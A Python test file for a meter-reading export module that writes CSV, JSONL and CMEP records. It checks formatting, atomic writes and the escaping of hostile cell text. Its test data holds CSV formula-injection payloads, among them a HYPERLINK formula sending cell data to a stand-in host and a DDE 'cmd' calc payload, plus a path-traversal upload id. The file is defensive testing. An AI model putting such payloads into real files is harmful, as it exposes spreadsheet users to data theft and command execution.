"""Exports: CSV columns, CMEP MEPMD01 records, written atomically."""

from __future__ import annotations

import csv
import json
from datetime import UTC, datetime

import pytest

from hhu_sync.export import COLUMNS, ExportRow, export_upload, write_cmep, write_csv, write_jsonl

ROWS = [
    ("M1", "1.8.1", "2026-11-25T10:00:00+00:00", "001846.0", "kWh", "ok", "HHU-1", "U1", "t"),
    ("M1", "1.8.1", "2026-11-26T10:00:00+00:00", "001850.5", "kWh", "ok", "HHU-1", "U2", "t"),
    ("M1", "1.6.0", "2026-11-25T10:00:00+00:00", "0012.3", "kW", "ok", "HHU-1", "U1", "t"),
    ("M1", "F.F", "2026-11-25T10:00:00+00:00", "00000000", "", "ok", "HHU-1", "U1", "t"),
]


def test_csv_has_a_header_and_a_row_per_reading(tmp_path):
    assert write_csv(ROWS, tmp_path / "r.csv") == 4
    rows = list(csv.reader(open(tmp_path / "r.csv")))
    assert rows[0][:4] == ["meter", "obis", "time", "value"]
    assert rows[1][3] == "001846.0"


def test_cmep_has_one_record_per_meter_and_register_with_triplets(tmp_path):
    sorted_rows = sorted(ROWS, key=lambda r: (r[0], r[1], r[2]))
    when = datetime(2026, 11, 27, 8, 0, tzinfo=UTC)
    assert write_cmep(sorted_rows, tmp_path / "r.cmep", sender="DEPOT", now=when) == 2
    lines = (tmp_path / "r.cmep").read_text().splitlines()
    assert lines[0] == ("MEPMD01,19970819,DEPOT,,,,202611270800,M1:1.6.0,OK,E,KWREG,1,"
                        "00000000,1,202611251000,R0,12.3")
    assert lines[1].endswith("M1:1.8.1,OK,E,KWHREG,1,00000000,2,202611251000,R0,1846.0,"
                             "202611261000,R0,1850.5")


def test_jsonl_has_one_object_per_line(tmp_path):
    write_jsonl(ROWS[:1], tmp_path / "r.jsonl")
    assert '"obis": "1.8.1"' in (tmp_path / "r.jsonl").read_text()


def test_a_failed_export_leaves_no_file_and_no_temp(tmp_path):
    def broken():
        yield ROWS[0]
        raise RuntimeError("disk gone")
    try:
        write_csv(broken(), tmp_path / "r.csv")
    except RuntimeError:
        pass
    assert list(tmp_path.iterdir()) == []


# -- issue 12: hostile text never starts a formula or breaks a line ----------------------

HOSTILE = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0",
           "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", " =1+1", "\uff1d1+1", "a\nb", "a\r\nb",
           "x\x00y\x1b[2J", "line\u2028sep", "para\u2029sep", "nel\x85x", "fs\x1cgs\x1drs\x1e",
           'quote"d,comma', "back\\slash"]
TEXT_COLUMNS = ("meter", "obis", "unit", "status", "hhu", "upload_id", "site", "list_id",
                "rate", "scheme", "notes", "error_flags", "value", "time", "value_time")
_TRIGGERS = tuple("=+-@\t\r\n\uff1d")


def hostile_rows(column: str) -> list[ExportRow]:
    base = ExportRow("M1", "1.8.1", "2026-11-25T10:00:00+00:00", "001846.0", "kWh", "ok",
                     "HHU-1", "U1", "t", site="Site", list_id="L1")
    return [base._replace(**{column: text}) for text in HOSTILE]


def _unsafe(cell: str) -> bool:
    return cell.lstrip(" ").startswith(_TRIGGERS) or any(
        ord(c) < 0x20 or 0x7f <= ord(c) <= 0x9f or c in "\u2028\u2029" for c in cell)


@pytest.mark.parametrize("column", TEXT_COLUMNS)
def test_csv_cells_never_start_a_formula_or_break_a_record(tmp_path, column):
    rows = hostile_rows(column)
    write_csv(rows, tmp_path / "r.csv")
    text = (tmp_path / "r.csv").read_text()
    assert len(text.splitlines()) == len(rows) + 1          # one line per record
    parsed = list(csv.reader(text.splitlines()))
    assert all(len(r) == len(COLUMNS) for r in parsed)
    at = COLUMNS.index(column)
    for original, cells in zip(HOSTILE, parsed[1:], strict=True):
        assert not _unsafe(cells[at]), (original, cells[at])
        assert not any(_unsafe(c) for c in cells)


@pytest.mark.parametrize("column", TEXT_COLUMNS)
def test_jsonl_objects_are_one_line_and_never_start_a_formula(tmp_path, column):
    rows = hostile_rows(column)
    write_jsonl(rows, tmp_path / "r.jsonl")
    lines = (tmp_path / "r.jsonl").read_text().splitlines()
    assert len(lines) == len(rows)
    for line in lines:
        record = json.loads(line)
        assert list(record) == list(COLUMNS)
        assert not any(v.lstrip(" ").startswith(_TRIGGERS) for v in record.values())


@pytest.mark.parametrize("column", ("meter", "obis"))
def test_cmep_meter_ids_never_start_a_formula_or_break_a_record(tmp_path, column):
    rows = hostile_rows(column)
    write_cmep(rows, tmp_path / "r.cmep", sender="=DEPOT\n")
    text = (tmp_path / "r.cmep").read_text()
    lines = text.splitlines()
    assert len(lines) == text.count("\n") and all(line.startswith("MEPMD01,") for line in lines)
    for cells in csv.reader(lines):
        assert not any(_unsafe(c) for c in cells), cells


def test_a_negative_number_stays_a_number(tmp_path):
    row = ExportRow("M1", "2.8.0", "2026-11-25T10:00:00+00:00", "-0012.5", "kWh", "ok",
                    "HHU-1", "U1", "t")
    write_csv([row], tmp_path / "r.csv")
    assert list(csv.reader(open(tmp_path / "r.csv")))[1][3] == "-0012.5"
    write_jsonl([row], tmp_path / "r.jsonl")
    assert json.loads((tmp_path / "r.jsonl").read_text())["value"] == "-0012.5"


def test_cmep_writes_only_valid_readings_with_a_number_and_a_zoned_time(tmp_path):
    ok = ExportRow("M1", "1.8.1", "2026-11-25T10:00:00+00:00", "001846.0", "kWh", "ok",
                   "HHU-1", "U1", "t")
    rows = [ok,
            ok._replace(obis="1.8.2", status="battery_low"),
            ok._replace(obis="1.8.3", status="not_on_list"),
            ok._replace(obis="1.8.4", value="=1+1"),
            ok._replace(obis="1.8.5", value="NaN"),
            ok._replace(obis="1.8.6", time="2026-11-25T10:00:00"),      # no zone
            ok._replace(obis="1.8.7", time="")]
    assert write_cmep(rows, tmp_path / "r.cmep", sender="D") == 1
    assert "M1:1.8.1," in (tmp_path / "r.cmep").read_text()


def test_cmep_splits_long_series_at_48_triplets(tmp_path):
    rows = [ExportRow("M1", "1.8.1", f"2026-11-{1 + n // 24:02d}T{n % 24:02d}:00:00+00:00",
                      f"{n}.0", "kWh", "ok", "HHU-1", "U1", "t") for n in range(100)]
    assert write_cmep(rows, tmp_path / "r.cmep", sender="D") == 3
    lines = (tmp_path / "r.cmep").read_text().splitlines()
    counts = [int(next(csv.reader([line]))[13]) for line in lines]
    assert counts == [48, 48, 4] and all(len(line) <= 2048 for line in lines)


def test_cmep_lines_stay_within_2048_characters(tmp_path):
    rows = [ExportRow("M" * 32, "1.8.1", f"2026-11-{1 + n // 24:02d}T{n % 24:02d}:00:00Z",
                      f"{n:0>40}.123456789", "kWh", "ok", "HHU-1", "U1", "t")
            for n in range(100)]
    write_cmep(rows, tmp_path / "r.cmep", sender="D")
    lines = (tmp_path / "r.cmep").read_text().splitlines()
    assert sum(int(next(csv.reader([x]))[13]) for x in lines) == 100
    assert all(len(line) <= 2048 for line in lines)


def test_cmep_times_are_utc_and_history_and_demand_use_their_own_time(tmp_path):
    base = ExportRow("M1", "1.8.0*1", "2026-11-25T11:15:00+01:00", "000024.000", "kWh", "ok",
                     "HHU-1", "U1", "t")
    rows = [base._replace(value_time="2026-11-01T00:00:00+00:00",
                          reset_time="2026-11-01T00:00:00+00:00"),
            base._replace(time="2026-11-26T10:00:00+00:00",      # read again: one triplet
                          value_time="2026-11-01T00:00:00+00:00",
                          reset_time="2026-11-01T00:00:00+00:00"),
            base._replace(obis="1.6.0", value="0012.3", unit="kW",
                          value_time="2026-11-20T15:30:00+00:00"),
            base._replace(obis="1.8.1", value="1.0")]
    write_cmep(rows, tmp_path / "r.cmep", sender="D")
    records = {r[7]: r[13:] for r in csv.reader((tmp_path / "r.cmep").read_text().splitlines())}
    assert records["M1:1.8.0*1"] == ["1", "202611010000", "R0", "24.000"]
    assert records["M1:1.6.0"] == ["1", "202611201530", "R0", "12.3"]
    assert records["M1:1.8.1"] == ["1", "202611251015", "R0", "1.0"]       # 11:15+01:00


def test_cmep_calculation_constant_is_the_multiplier_of_secondary_values(tmp_path):
    row = ExportRow("M1", "1.8.1", "2026-11-25T10:00:00+00:00", "001846.0", "kWh", "ok",
                    "HHU-1", "U1", "t", multiplier="8000", value_basis="secondary",
                    value_primary="14768000.0")
    write_cmep([row, row._replace(obis="1.8.2", value_basis="primary", multiplier="1")],
               tmp_path / "r.cmep", sender="D")
    records = {r[7]: r for r in csv.reader((tmp_path / "r.cmep").read_text().splitlines())}
    assert records["M1:1.8.1"][11] == "8000" and records["M1:1.8.2"][11] == "1"


def test_an_upload_export_refuses_an_id_that_is_a_path(tmp_path):
    with pytest.raises(ValueError):
        export_upload(ROWS, tmp_path, "../../etc/x", sender="D")
    assert list(tmp_path.iterdir()) == []


def test_a_row_of_another_layout_is_refused_not_exported_under_wrong_names(tmp_path):
    with pytest.raises(TypeError, match="Store.readings"):
        write_csv([(*ROWS[0], "value time", "reset time", "0")], tmp_path / "r.csv")
    assert list(tmp_path.iterdir()) == []
